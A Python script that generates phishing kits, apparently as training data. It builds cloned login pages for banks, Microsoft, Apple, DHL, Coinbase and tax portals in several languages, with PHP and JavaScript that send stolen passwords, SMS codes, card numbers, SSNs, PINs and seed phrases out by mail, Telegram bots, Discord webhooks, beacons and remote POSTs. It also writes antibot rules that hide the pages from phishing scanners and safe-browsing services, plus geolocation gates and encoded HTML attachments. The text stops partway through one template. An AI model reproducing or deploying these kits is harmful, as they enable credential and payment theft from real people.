"""train8 phishing kits: multi-file kits (HTML + JS posting to a PHP step,
config with the drop, antibot .htaccess and IP lists), many brands, sectors
and languages, exfil by mail(), Telegram, Discord, a random-name file, a
remote form POST, WebSocket and sendBeacon; OTP relay, card/billing/SSN steps,
session step machines, geolocation gates, zipped kits. Written blind."""

from t8_common import T, rw, hx, ip, dom, b64, F, zipbytes

BRANDS = (
    # brand, sector, lang, title, user label, pass label, button
    ("Santander", "bank", "es", "Banca Online", "Documento / NIE", "Clave de acceso", "Entrar"),
    ("BBVA", "bank", "es", "Acceso clientes", "Usuario", "Contraseña", "Acceder"),
    ("Crédit Agricole", "bank", "fr", "Ma banque", "Identifiant", "Code personnel", "Valider"),
    ("Sparkasse", "bank", "de", "Online-Banking", "Anmeldename", "PIN", "Anmelden"),
    ("Poste Italiane", "bank", "it", "Accedi", "Nome utente", "Password", "Accedi"),
    ("Itaú", "bank", "pt", "Acesse sua conta", "Agência e conta", "Senha eletrônica", "Acessar"),
    ("Microsoft", "cloud", "en", "Sign in to your account", "Email, phone, or Skype", "Password", "Sign in"),
    ("DHL", "parcel", "en", "Delivery notification", "Tracking number", "Postcode", "Continue"),
    ("La Poste", "parcel", "fr", "Colissimo - livraison", "Numéro de suivi", "Code postal", "Continuer"),
    ("Netflix", "streaming", "en", "Update your payment", "Email", "Password", "Sign In"),
    ("Apple", "cloud", "en", "Apple ID", "Apple ID", "Password", "Continue"),
    ("Chase", "bank", "en", "Sign in", "Username", "Password", "Sign in"),
    ("ING", "bank", "nl", "Inloggen Mijn ING", "Gebruikersnaam", "Wachtwoord", "Inloggen"),
    ("Coinbase", "crypto", "en", "Sign in to Coinbase", "Email", "Password", "Continue"),
    ("impots.gouv.fr", "gov", "fr", "Remboursement d'impôt", "Numéro fiscal", "Mot de passe", "Se connecter"),
    ("PKO BP", "bank", "pl", "Logowanie", "Numer klienta", "Hasło", "Zaloguj"),
)


def brand(r, want=None):
    b = [x for x in BRANDS if want is None or x[1] in want]
    return r.choice(b)


def kitdir(r):
    return r.choice(("", "secure/", "login/", "%s/" % hx(r, 8), "wp-content/plugins/%s/" % rw(r, 7),
                     ".well-known/acme/", "auth-%s/" % rw(r, 4), "verify/%s/" % hx(r, 6)))


def tok(r):
    return "%d:AA%s" % (r.randint(1000000000, 7999999999), rw(r, 33, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"))


def chat(r):
    return "-100%d" % r.randint(1000000000, 1999999999)


def hook(r):
    return "https://discord.com/api/webhooks/%d/%s" % (r.randint(10 ** 17, 10 ** 18), rw(r, 68, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"))


def drop(r):
    return "%s%s@%s" % (rw(r, 5), r.randint(10, 99), r.choice(("example.com", "example.net", "mail.example.org")))


# ----------------------------------------------------------- exfil snippets (PHP)
def ex_code(r, kind, varmsg="$msg"):
    if kind == "mail":
        return T("""$headers = "From: @N@ <noreply@@D@>\\r\\nContent-Type: text/plain; charset=UTF-8\\r\\n";
@mail($recipient, "@S@ | " . $ip, @M@, $headers);""", N=rw(r, 5).title(), D=dom(r), S=rw(r, 4).upper(), M=varmsg)
    if kind == "telegram":
        return T("""$ch = curl_init('https://api.telegram.org/bot' . $bot_token . '/sendMessage');
curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_RETURNTRANSFER => true, CURLOPT_SSL_VERIFYPEER => false,
    CURLOPT_POSTFIELDS => ['chat_id' => $chat_id, 'text' => @M@, 'parse_mode' => 'HTML']]);
curl_exec($ch);
curl_close($ch);""", M=varmsg)
    if kind == "telegram-get":
        return T("""@file_get_contents("https://api.telegram.org/bot{$bot_token}/sendMessage?chat_id={$chat_id}&text=" . urlencode(@M@));""", M=varmsg)
    if kind == "telegram-doc":
        return T("""$f = __DIR__ . '/' . md5($ip) . '.txt';
file_put_contents($f, @M@, FILE_APPEND);
$ch = curl_init("https://api.telegram.org/bot{$bot_token}/sendDocument");
curl_setopt($ch, CURLOPT_POSTFIELDS, ['chat_id' => $chat_id, 'caption' => 'new ' . $ip, 'document' => new CURLFile($f)]);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
curl_exec($ch);
@unlink($f);""", M=varmsg)
    if kind == "discord":
        return T("""$payload = json_encode(['username' => '@U@', 'content' => "```" . @M@ . "```"]);
$ctx = stream_context_create(['http' => ['method' => 'POST', 'header' => "Content-Type: application/json\\r\\n", 'content' => $payload]]);
@file_get_contents($webhook, false, $ctx);""", U=rw(r, 5), M=varmsg)
    if kind == "file":
        return T("""$fp = fopen(__DIR__ . '/@F@', 'a');
fwrite($fp, @M@ . "\\n==========\\n");
fclose($fp);""", F=r.choice(("%s.txt" % hx(r, 10), ".%s" % rw(r, 6), "rezult/%s.log" % hx(r, 6), "error_log_%s" % rw(r, 3))), M=varmsg)
    # remote post
    return T("""$ch = curl_init('https://@D@/gate/@G@.php');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['d' => base64_encode(@M@), 'h' => $_SERVER['HTTP_HOST']]));
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
curl_exec($ch);""", D=r.choice((ip(r), dom(r))), G=rw(r, 5), M=varmsg)


def config_php(r, kind):
    lines = ["<?php"]
    if kind.startswith("telegram"):
        lines += ["$bot_token = '%s';" % tok(r), "$chat_id = '%s';" % chat(r)]
    elif kind == "discord":
        lines += ["$webhook = '%s';" % hook(r)]
    lines += ["$recipient = '%s';" % drop(r), "$redirect = 'https://www.%s/';" % r.choice(("example.com", "example.org")),
              "$antibot = %s;" % r.choice(("true", "1", "'on'"))]
    return "\n".join(lines) + "\n"


GET_IP = """$ip = $_SERVER['HTTP_CF_CONNECTING_IP'] ?? ($_SERVER['HTTP_X_FORWARDED_FOR'] ?? $_SERVER['REMOTE_ADDR']);"""


def login_html(r, b, action, extra_js="", method="post", names=("user", "pass")):
    name, sector, lang, title, ul, pl, btn = b
    return T("""<!DOCTYPE html>
<html lang="@L@">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="robots" content="noindex, nofollow">
<title>@B@ - @T@</title>
<link rel="stylesheet" href="assets/css/main.css">
<link rel="icon" href="assets/img/favicon.ico">
</head>
<body class="@C@">
<div class="wrap">
  <img src="assets/img/logo.svg" alt="@B@" class="logo">
  <h1>@T@</h1>
  <form id="f1" method="@ME@" action="@A@" autocomplete="off">
    <label>@UL@</label>
    <input type="text" name="@N1@" id="@N1@" required>
    <label>@PL@</label>
    <input type="password" name="@N2@" id="@N2@" required>
    <button type="submit">@BT@</button>
  </form>
  <p class="small">&copy; 2024 @B@</p>
</div>
@JS@
</body>
</html>
""", L=lang, B=name, T=title, C=rw(r, 6), ME=method, A=action, UL=ul, PL=pl, N1=names[0], N2=names[1], BT=btn, JS=extra_js)


def antibot_htaccess(r):
    lines = ["RewriteEngine On",
             "RewriteCond %{HTTP_USER_AGENT} (google|bing|yandex|baidu|crawler|spider|curl|wget|python|phishtank|netcraft) [NC,OR]",
             "RewriteCond %{HTTP_REFERER} (phishtank|urlscan|virustotal|google\\.com/safebrowsing) [NC]",
             "RewriteRule .* https://www.example.com/ [R=302,L]"]
    for _ in range(r.randint(3, 6)):
        lines.append("deny from %s" % ip(r))
    lines.append("DirectoryIndex index.php index.html")
    return "\n".join(lines) + "\n"


def antibot_php(r):
    words = ["bot", "crawl", "spider", "slurp", "facebookexternalhit", "headless", "phantom", "python-requests",
             "scrapy", "lighthouse", "Google-Safety"]
    r.shuffle(words)
    return T("""<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
foreach ([@W@] as $w) {
    if (strpos($ua, strtolower($w)) !== false) { header('HTTP/1.0 404 Not Found'); exit('<h1>404 Not Found</h1>'); }
}
$host = @gethostbyaddr($_SERVER['REMOTE_ADDR']);
foreach (['google', 'amazonaws', 'msnbot', 'paypal', 'phishtank', 'digitalocean', 'ovh.net'] as $h) {
    if (stripos((string) $host, $h) !== false) { header('Location: https://www.example.com/'); exit; }
}
$banned = @file(__DIR__ . '/@L@', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES) ?: [];
foreach ($banned as $pre) {
    if (strpos($_SERVER['REMOTE_ADDR'], trim($pre)) === 0) { exit; }
}
""", W=", ".join("'%s'" % w for w in words[:7]), L=r.choice(("ips.txt", "block/list.dat", "ip_list.txt")))


def ip_list(r):
    return "\n".join(sorted({"%s." % ip(r).rsplit(".", 1)[0] for _ in range(6)} | {ip(r) for _ in range(8)})) + "\n"


def kit(files, name):
    return [F(d, rel, lang, "kit:" + name) for d, rel, lang in files]


OTP = {"es": ("Introduzca el código enviado por SMS", "Código incorrecto, se ha enviado uno nuevo."),
       "fr": ("Saisissez le code reçu par SMS", "Code erroné, un nouveau code a été envoyé."),
       "de": ("Bitte geben Sie die mTAN ein", "Falsche TAN, eine neue wurde gesendet."),
       "it": ("Inserisci il codice ricevuto via SMS", "Codice errato, ne abbiamo inviato un altro."),
       "pt": ("Digite o código enviado por SMS", "Código inválido, enviamos um novo."),
       "en": ("Enter the one-time code we sent to your phone", "Incorrect code, a new one has been sent."),
       "nl": ("Voer de sms-code in", "Onjuiste code, er is een nieuwe verstuurd."),
       "pl": ("Wpisz kod z SMS-a", "Błędny kod, wysłaliśmy nowy.")}


# 1 --------------------------------------------------------------------
def bank_login_tg_otp(r, v):
    b = brand(r, ("bank",))
    d = kitdir(r)
    ex = ("telegram", "telegram-get", "telegram-doc", "telegram")[v]
    nxt = r.choice(("next.php", "login.php", "auth.php", "verificar.php"))
    sms = r.choice(("sms.php", "otp.php", "code.php"))
    steps = T("""<?php
session_start();
require __DIR__ . '/config.php';
@IP@
if (!empty($_POST['@N1@'])) {
    $_SESSION['u'] = $_POST['@N1@'];
    $_SESSION['p'] = $_POST['@N2@'];
    $msg = "<b>@B@ LOGIN</b>\\nUser: {$_POST['@N1@']}\\nPass: {$_POST['@N2@']}\\nIP: $ip\\nUA: " . $_SERVER['HTTP_USER_AGENT'];
    @EX@
    header('Location: @SMS@?s=' . md5(session_id()));
    exit;
}
header('Location: index.php');
""", IP=GET_IP, N1="dni" if v % 2 else "user", N2="clave" if v % 2 else "pass", B=b[0].upper(), EX=ex_code(r, ex), SMS=sms)
    otp = T("""<?php
session_start();
require __DIR__ . '/config.php';
@IP@
if (isset($_POST['otp'])) {
    $msg = "<b>@B@ SMS</b>\\nUser: " . ($_SESSION['u'] ?? '?') . "\\nOTP: " . $_POST['otp'] . "\\nIP: $ip";
    @EX@
    $_SESSION['tries'] = ($_SESSION['tries'] ?? 0) + 1;
    if ($_SESSION['tries'] < 2) { header('Location: @SMS@?error=1'); exit; }
    header('Location: ' . $redirect);
    exit;
}
?>
<!DOCTYPE html><html><head><meta charset="utf-8"><title>@B@</title></head><body>
<h2>@OTPH@</h2>
<?php if (isset($_GET['error'])) echo '<p class="err">@OTPE@</p>'; ?>
<form method="post"><input name="otp" maxlength="8" inputmode="numeric"><button>OK</button></form>
</body></html>
""", IP=GET_IP, B=b[0], EX=ex_code(r, ex), SMS=sms, OTPH=OTP[b[2]][0], OTPE=OTP[b[2]][1])
    idx = login_html(r, b, nxt, names=("dni", "clave") if v % 2 else ("user", "pass"))
    files = [(idx, d + "index.html", "html"), (steps, d + nxt, "php"), (otp, d + sms, "php"),
             (config_php(r, ex), d + "config.php", "php")]
    if v != 1:
        files.append((antibot_htaccess(r), d + ".htaccess", "htaccess"))
    return kit(files, "bank-otp-%s" % b[2])


# 2 --------------------------------------------------------------------
def js_fetch_next(r, v):
    b = brand(r, ("cloud", "crypto"))
    d = kitdir(r)
    nxt = r.choice(("next.php", "post.php", "xhr.php", "api/login.php"))
    ex = ("mail", "discord", "file", "remote")[v]
    if v == 0:
        js = T("""document.getElementById('f1').addEventListener('submit', function (e) {
  e.preventDefault();
  var fd = new FormData(this);
  fd.append('tz', Intl.DateTimeFormat().resolvedOptions().timeZone);
  fetch('@N@', { method: 'POST', body: fd }).then(function () {
    document.querySelector('.err').style.display = 'block';
    window.setTimeout(function () { location.href = 'https://login.example.com/'; }, 2500);
  });
});
""", N=nxt)
    elif v == 1:
        js = T("""$(function () {
  var tries = 0;
  $('#f1').on('submit', function (e) {
    e.preventDefault();
    tries++;
    $.ajax({ url: '@N@', type: 'POST', dataType: 'json',
      data: { email: $('#user').val(), password: $('#pass').val(), attempt: tries },
      success: function (r) { if (tries >= 2) { window.location.replace(r.go || 'https://www.example.com'); } else { $('#pass').val(''); $('.err').show(); } }
    });
  });
  var h = window.location.hash.substr(1);
  if (h) { try { $('#user').val(atob(h)); } catch (x) { $('#user').val(h); } }
});
""", N=nxt)
    elif v == 2:
        js = T("""const form = document.querySelector('form');
form.onsubmit = async (ev) => {
  ev.preventDefault();
  const body = new URLSearchParams({ login: form.user.value, pw: form.pass.value, ref: document.referrer });
  await fetch('@N@', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body });
  location.assign('https://www.example.org/');
};
""", N=nxt)
    else:
        js = T("""(function(){var x=new XMLHttpRequest(),f=document.forms[0];f.addEventListener("submit",function(e){e.preventDefault();x.open("POST","@N@",true);x.setRequestHeader("Content-type","application/x-www-form-urlencoded");x.send("u="+encodeURIComponent(f.user.value)+"&p="+encodeURIComponent(f.pass.value));x.onload=function(){top.location="https://www.example.com/"}})})();
""", N=nxt)
    fields = ("$_POST['email'] ?? $_POST['login'] ?? $_POST['user'] ?? $_POST['u'] ?? ''",
              "$_POST['password'] ?? $_POST['pw'] ?? $_POST['pass'] ?? $_POST['p'] ?? ''")
    php = T("""<?php
require dirname(__FILE__) . '/@CFG@';
@IP@
$login = @F1@;
$pass = @F2@;
$geo = @json_decode(@file_get_contents('http://ip-api.com/json/' . $ip), true) ?: [];
$msg = "== @B@ ==\\nLogin: $login\\nPassword: $pass\\nIP: $ip (" . ($geo['country'] ?? '') . ', ' . ($geo['city'] ?? '') . ")\\nDate: " . date('Y-m-d H:i:s');
@EX@
header('Content-Type: application/json');
echo json_encode(['ok' => 1, 'go' => $redirect]);
""", CFG="../config.php" if nxt.startswith("api/") else "config.php", IP=GET_IP, F1=fields[0], F2=fields[1], B=b[0], EX=ex_code(r, ex))
    idx = login_html(r, b, "#", '<p class="err" style="display:none">Your account or password is incorrect.</p>\n'
                     '<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>\n<script src="js/app.js"></script>')
    files = [(idx, d + "index.html", "html"), (js, d + "js/app.js", "js"), (php, d + nxt, "php"),
             (config_php(r, ex), d + "config.php", "php")]
    return kit(files, "js-fetch-%s" % b[0].split()[0].lower())


# 3 --------------------------------------------------------------------
def session_step_card(r, v):
    b = brand(r, ("parcel", "streaming", "cloud", "gov"))
    d = kitdir(r)
    ex = ("file", "mail", "telegram", "discord")[v]
    main = T("""<?php
session_start();
require __DIR__ . '/inc/config.php';
require __DIR__ . '/inc/guard.php';
@IP@
$step = $_SESSION['step'] ?? 'address';
$views = ['address' => 'views/address.html', 'card' => 'views/card.html', 'ssn' => 'views/ssn.html', 'done' => 'views/done.html'];
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $data = array_map('trim', $_POST);
    $_SESSION['log'][$step] = $data;
    $msg = "[@B@] step $step from $ip\\n" . print_r($data, true);
    @EX@
    $next = ['address' => 'card', 'card' => 'ssn', 'ssn' => 'done', 'done' => 'done'];
    if ($step === 'card' && !preg_match('/^\\d{15,16}$/', str_replace(' ', '', $data['cc'] ?? ''))) { $next['card'] = 'card'; }
    $_SESSION['step'] = $next[$step];
    header('Location: ' . $_SERVER['PHP_SELF']);
    exit;
}
readfile(__DIR__ . '/' . $views[$step]);
""", IP=GET_IP, B=b[0], EX=ex_code(r, ex))
    card = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>@B@</title></head><body>
<h2>@H@</h2>
<form method="post">
<input name="holder" placeholder="Name on card" required>
<input name="cc" inputmode="numeric" placeholder="Card number" maxlength="19" required>
<input name="exp" placeholder="MM/YY" maxlength="5" required>
<input name="cvv" placeholder="CVV" maxlength="4" required>
<button>@BT@</button>
</form></body></html>
""", B=b[0], H=r.choice(("Pay the redelivery fee (1.99)", "Confirm your billing details", "Frais de réexpédition : 2,99 €")), BT=b[6])
    addr = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>@B@</title></head><body>
<h2>@T@</h2><form method="post">
<input name="fullname" required><input name="address" required><input name="city" required>
<input name="zip" required><input name="phone" required><input name="dob" placeholder="DD/MM/YYYY">
<button>@BT@</button></form></body></html>
""", B=b[0], T=b[3], BT=b[6])
    ssn = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>@B@</title></head><body>
<h2>Identity verification</h2><form method="post">
<input name="ssn" placeholder="Social Security Number" maxlength="11"><input name="mmn" placeholder="Mother's maiden name">
<input name="atm_pin" type="password" maxlength="6" placeholder="Card PIN"><button>Verify</button></form></body></html>
""", B=b[0])
    done = "<!DOCTYPE html><html><head><meta http-equiv=\"refresh\" content=\"3;url=https://www.example.com/\"></head><body><p>Thank you.</p></body></html>\n"
    entry = r.choice(("index.php", "track.php", "billing.php"))
    files = [(main, d + entry, "php"), (config_php(r, ex), d + "inc/config.php", "php"), (antibot_php(r), d + "inc/guard.php", "php"),
             (addr, d + "views/address.html", "html"), (card, d + "views/card.html", "html"), (ssn, d + "views/ssn.html", "html"),
             (done, d + "views/done.html", "html"), (ip_list(r), d + "inc/ips.txt", "text")]
    return kit(files, "steps-%s" % b[0].split()[0].lower())


# 4 --------------------------------------------------------------------
def webmail_discord(r, v):
    d = kitdir(r)
    prov = ("Roundcube Webmail", "cPanel", "Zimbra Web Client", "Horde")[v]
    act = r.choice(("verify.php", "index2.php", "%s.php" % rw(r, 5)))
    php = T("""<?php
$webhook = '@H@';
$e = $_POST['email'] ?? '';
$p = $_POST['password'] ?? '';
if ($e !== '' && $p !== '') {
    $dom = substr(strrchr($e, '@'), 1);
    $mx = [];
    getmxrr($dom, $mx);
    $body = ['embeds' => [['title' => '@PR@ | ' . $dom, 'fields' => [
        ['name' => 'email', 'value' => $e], ['name' => 'pass', 'value' => $p],
        ['name' => 'mx', 'value' => implode(',', $mx) ?: '-'], ['name' => 'ip', 'value' => $_SERVER['REMOTE_ADDR']],
    ]]]];
    $c = curl_init($webhook);
    curl_setopt_array($c, [CURLOPT_HTTPHEADER => ['Content-Type: application/json'], CURLOPT_POSTFIELDS => json_encode($body), CURLOPT_RETURNTRANSFER => 1]);
    curl_exec($c);
    header('Location: https://' . $dom . '/');
    exit;
}
""", H=hook(r), PR=prov)
    html = T("""<!DOCTYPE html>
<html><head><meta charset="UTF-8"><title>@PR@ :: Welcome</title></head>
<body>
<div id="login-form">
<img src="data:image/png;base64,@IMG@" alt="">
<form method="post" action="@A@">
<input type="hidden" name="_task" value="login">
<input name="email" id="email" value="" placeholder="Email">
<input name="password" type="password" placeholder="Password">
<button type="submit">Login</button>
</form>
</div>
<script>
var m = location.search.match(/[?&](?:e|email|u)=([^&]+)/);
if (m) { document.getElementById('email').value = decodeURIComponent(m[1]); }
</script>
</body></html>
""", PR=prov, A=act, IMG=b64(bytes(range(48))))
    if v % 2:
        one = php + "?>\n" + html
        files = [(one, d + "index.php", "php")]
    else:
        files = [(html, d + "index.html", "html"), (php, d + act, "php")]
    return kit(files, "webmail-%s" % prov.split()[0].lower())


# 5 --------------------------------------------------------------------
def beacon_ws_exfil(r, v):
    b = brand(r, ("crypto", "cloud", "bank"))
    d = kitdir(r)
    if v == 0:
        js = T("""<script>
document.querySelector('#f1').addEventListener('submit', function (e) {
  e.preventDefault();
  var d = { u: this.user.value, p: this.pass.value, ua: navigator.userAgent, l: navigator.language };
  navigator.sendBeacon('https://@D@/c/@G@', new Blob([JSON.stringify(d)], { type: 'text/plain' }));
  setTimeout(function () { location.href = 'https://www.example.com/'; }, 400);
});
</script>""", D=dom(r), G=hx(r, 8))
    elif v == 1:
        js = T("""<script>
var ws = new WebSocket('wss://@D@:@PT@/live');
var sid = Math.random().toString(36).slice(2);
ws.onopen = function () { ws.send(JSON.stringify({ t: 'hello', sid: sid, page: '@B@' })); };
ws.onmessage = function (m) {
  var c = JSON.parse(m.data);
  if (c.t === 'ask_otp') { document.getElementById('f1').innerHTML = '<input name="otp" placeholder="Code"><button>OK</button>'; }
  if (c.t === 'redirect') { location.href = c.url; }
  if (c.t === 'error') { document.querySelector('.err').textContent = c.msg; }
};
document.getElementById('f1').addEventListener('submit', function (e) {
  e.preventDefault();
  ws.send(JSON.stringify({ t: 'data', sid: sid, fields: Object.fromEntries(new FormData(this)) }));
});
</script>""", D=dom(r), PT=r.choice((443, 8443, 2053)), B=b[0])
    elif v == 2:
        js = T("""<script>
(function () {
  var k = ['\\x75\\x73\\x65\\x72', '\\x70\\x61\\x73\\x73'];
  var f = document.forms[0];
  f.addEventListener('submit', function (ev) {
    ev.preventDefault();
    var img = new Image();
    img.src = 'https://@D@/pixel.gif?d=' + btoa(f[k[0]].value + '|' + f[k[1]].value) + '&r=' + Date.now();
    img.onload = img.onerror = function () { location.replace('https://www.example.com/'); };
  });
})();
</script>""", D=dom(r))
    else:
        phrase = " ".join("word%d" % i for i in range(1, 13))
        js = T("""<script>
const api = atob('@U@');
document.getElementById('f1').onsubmit = async (e) => {
  e.preventDefault();
  const seed = [...document.querySelectorAll('.seed input')].map(i => i.value.trim()).join(' ');
  await fetch(api, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ seed, wallet: '@B@', when: new Date().toISOString() }) });
  document.body.innerHTML = '<h3>Wallet synchronisation in progress...</h3>';
};
</script>
<!-- placeholder: @PH@ -->""", U=b64("https://%s/api/v2/restore" % dom(r)), B=b[0], PH=phrase)
    html = login_html(r, b, "#", '<p class="err"></p>\n' + js)
    if v == 3:
        html = html.replace('<button type="submit">', '<div class="seed">' + "".join(
            '<input name="w%d">' % i for i in range(12)) + '</div>\n    <button type="submit">')
    name = r.choice(("index.html", "login.html", "%s.html" % hx(r, 8), "verify.htm"))
    return kit([(html, d + name, "html")], "beacon-%s" % b[0].split()[0].lower())


# 6 --------------------------------------------------------------------
def html_attachment_remote_post(r, v):
    b = brand(r, ("cloud", "bank", "parcel"))
    gate = "https://%s/%s/%s.php" % (r.choice((ip(r), dom(r))), rw(r, 4), rw(r, 5))
    if v == 0:
        html = login_html(r, b, gate)
    elif v == 1:
        html = login_html(r, b, "").replace('action=""', 'action="" onsubmit="this.action=atob(\'%s\')"' % b64(gate))
    else:
        enc = "".join("%%%02X" % ord(c) for c in login_html(r, b, gate))
        html = "<html><head><meta charset=\"utf-8\"></head><body><script>document.write(unescape('%s'));</script></body></html>\n" % enc
    name = r.choice(("Invoice_%d.html" % r.randint(1000, 99999), "Remittance-Advice.htm", "Document_%s.shtml" % hx(r, 6),
                     "fax_%d.html" % r.randint(100, 999)))
    return kit([(html, r.choice(("", "wp-content/uploads/%d/%02d/" % (r.randint(2021, 2025), r.randint(1, 12)))) + name, "html")],
               "attachment-%s" % b[0].split()[0].lower())


# 7 --------------------------------------------------------------------
def geo_gate(r, v):
    b = brand(r)
    d = kitdir(r)
    cc = {"es": "ES", "fr": "FR", "de": "DE", "it": "IT", "pt": "BR", "en": "US", "nl": "NL", "pl": "PL"}[b[2]]
    api = ("'http://ip-api.com/json/' . $ip . '?fields=status,countryCode,isp,proxy,hosting'",
           "'https://ipinfo.io/' . $ip . '/json'",
           "'http://www.geoplugin.net/json.gp?ip=' . $ip")[v % 3]
    key = ("countryCode", "country", "geoplugin_countryCode")[v % 3]
    gate = T("""<?php
@IP@
$allowed = ['@CC@'];
$j = @json_decode(@file_get_contents(@API@), true);
$c = $j['@K@'] ?? '';
$log = date('c') . " $ip $c " . ($_SERVER['HTTP_USER_AGENT'] ?? '') . "\\n";
@file_put_contents(__DIR__ . '/visitors.log', $log, FILE_APPEND);
if (!in_array($c, $allowed, true) || !empty($j['hosting']) || !empty($j['proxy'])) {
    header('Location: https://www.google.com/');
    exit;
}
$dir = substr(md5($ip . '@S@'), 0, 10);
if (!is_dir(__DIR__ . '/s/' . $dir)) {
    @mkdir(__DIR__ . '/s/' . $dir, 0755, true);
    foreach (glob(__DIR__ . '/src/*') as $f) { copy($f, __DIR__ . '/s/' . $dir . '/' . basename($f)); }
}
header('Location: s/' . $dir . '/');
""", IP=GET_IP, CC=cc, API=api, K=key, S=rw(r, 6))
    ex = ("telegram", "mail", "file")[v % 3]
    post = T("""<?php
require dirname(__DIR__) . '/config.php';
@IP@
$msg = "[@B@ @CC@]\\n";
foreach ($_POST as $k => $val) { $msg .= $k . ': ' . $val . "\\n"; }
$msg .= "IP: $ip";
@EX@
header('Location: ' . $redirect);
""", IP=GET_IP, B=b[0], CC=cc, EX=ex_code(r, ex))
    files = [(gate, d + "index.php", "php"), (login_html(r, b, "post.php"), d + "src/index.html", "html"),
             (post, d + "src/post.php", "php"), (config_php(r, ex), d + "config.php", "php"),
             ("%s US Mozilla/5.0\n" % ip(r), d + "visitors.log", "text")]
    return kit(files, "geo-%s" % b[0].split()[0].lower())


# 8 --------------------------------------------------------------------
def antibot_kit(r, v):
    b = brand(r)
    d = kitdir(r)
    ex = ("telegram-doc", "discord", "mail")[v % 3]
    idx = T("""<?php
include 'prevent/@A@';
include 'config.php';
$_SESSION = [];
session_start();
$_SESSION['t'] = time();
$key = substr(sha1(mt_rand()), 0, 12);
header('Location: signin.php?session=' . $key . '&lang=@L@');
""", A=r.choice(("blocker.php", "check.php", "guard.php")), L=b[2])
    sign = T("""<?php
session_start();
include 'prevent/@A@';
include 'config.php';
@IP@
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $msg = "+ @B@ +\\n" . 'ID: ' . $_POST['user'] . "\\nPW: " . $_POST['pass'] . "\\nIP: $ip\\nBrowser: " . $_SERVER['HTTP_USER_AGENT'];
    @EX@
    header('Location: ' . $redirect);
    exit;
}
?>
""", A=r.choice(("blocker.php", "check.php", "guard.php")), IP=GET_IP, B=b[0], EX=ex_code(r, ex))
    sign += login_html(r, b, "")
    ab = antibot_php(r)
    files = [(idx, d + "index.php", "php"), (sign, d + "signin.php", "php"), (config_php(r, ex), d + "config.php", "php"),
             (ab, d + "prevent/guard.php", "php"), (ab.replace("strtolower", "mb_strtolower"), d + "prevent/blocker.php", "php"),
             (ab, d + "prevent/check.php", "php"), (ip_list(r), d + "prevent/ips.txt", "text"), (ip_list(r), d + "prevent/ip_list.txt", "text"),
             (antibot_htaccess(r), d + ".htaccess", "htaccess")]
    return kit(files, "antibot-%s" % b[0].split()[0].lower())


# 9 --------------------------------------------------------------------
def zipped_kit(r, v):
    """The uploaded archive beside the extracted kit."""
    b = brand(r)
    ex = ("telegram", "mail", "file", "remote")[v]
    nm = r.choice(("%s" % b[0].split()[0].lower().replace("é", "e").replace("ú", "u"), "%s%d" % (rw(r, 3), r.randint(1, 9)), "new", "v3"))
    post = T("""<?php
include 'config.php';
@IP@
$msg = '';
foreach (['user', 'pass', 'cc', 'exp', 'cvv'] as $k) { if (isset($_POST[$k])) { $msg .= strtoupper($k) . ': ' . $_POST[$k] . "\\n"; } }
$msg .= 'IP: ' . $ip . "\\n";
@EX@
header('Location: ' . $redirect);
""", IP=GET_IP, EX=ex_code(r, ex))
    inner = [("index.html", login_html(r, b, "send.php")), ("send.php", post), ("config.php", config_php(r, ex)),
             (".htaccess", antibot_htaccess(r))]
    zb = zipbytes([(nm + "/" + a, c) for a, c in inner])
    base = r.choice(("", "wp-content/uploads/", "public/", "tmp/"))
    files = [(zb, base + nm + ".zip", "zip")]
    for a, c in inner:
        files.append((c, base + nm + "/" + a, {"index.html": "html", ".htaccess": "htaccess"}.get(a, "php")))
    return kit(files, "zipped-" + nm)


# 10 -------------------------------------------------------------------
def multilang_card(r, v):
    b = brand(r, ("streaming", "cloud", "parcel"))
    d = kitdir(r)
    langs = {"en": ("Update your billing", "Card number", "Expiry", "Security code", "Confirm"),
             "fr": ("Mettez à jour votre paiement", "Numéro de carte", "Expiration", "Cryptogramme", "Confirmer"),
             "de": ("Zahlungsdaten aktualisieren", "Kartennummer", "Ablaufdatum", "Prüfnummer", "Bestätigen"),
             "es": ("Actualiza tu pago", "Número de tarjeta", "Caducidad", "CVV", "Confirmar"),
             "it": ("Aggiorna il pagamento", "Numero carta", "Scadenza", "CVV", "Conferma")}
    lf = []
    for code, t in langs.items():
        lf.append(("<?php\nreturn ['title' => '%s', 'cc' => '%s', 'exp' => '%s', 'cvv' => '%s', 'btn' => '%s'];\n"
                   % tuple(x.replace("'", "\\'") for x in t), d + "lang/%s.php" % code, "php"))
    ex = ("telegram", "discord", "mail", "file")[v]
    main = T("""<?php
session_start();
require 'config.php';
@IP@
$l = substr($_SERVER['HTTP_ACCEPT_LANGUAGE'] ?? 'en', 0, 2);
$L = is_file(__DIR__ . "/lang/$l.php") ? require __DIR__ . "/lang/$l.php" : require __DIR__ . '/lang/en.php';
if (isset($_POST['cc'])) {
    $bin = substr(preg_replace('/\\D/', '', $_POST['cc']), 0, 6);
    $bininfo = @json_decode(@file_get_contents('https://lookup.binlist.net/' . $bin), true);
    $msg = "[@B@ CARD]\\nCC: {$_POST['cc']}\\nEXP: {$_POST['exp']}\\nCVV: {$_POST['cvv']}\\nBANK: " . ($bininfo['bank']['name'] ?? '?') . "\\nIP: $ip";
    @EX@
    $_SESSION['done'] = 1;
    header('Location: ' . $redirect);
    exit;
}
?>
<!DOCTYPE html><html><head><meta charset="utf-8"><title>@B@</title></head><body>
<h1><?= htmlspecialchars($L['title']) ?></h1>
<form method="post">
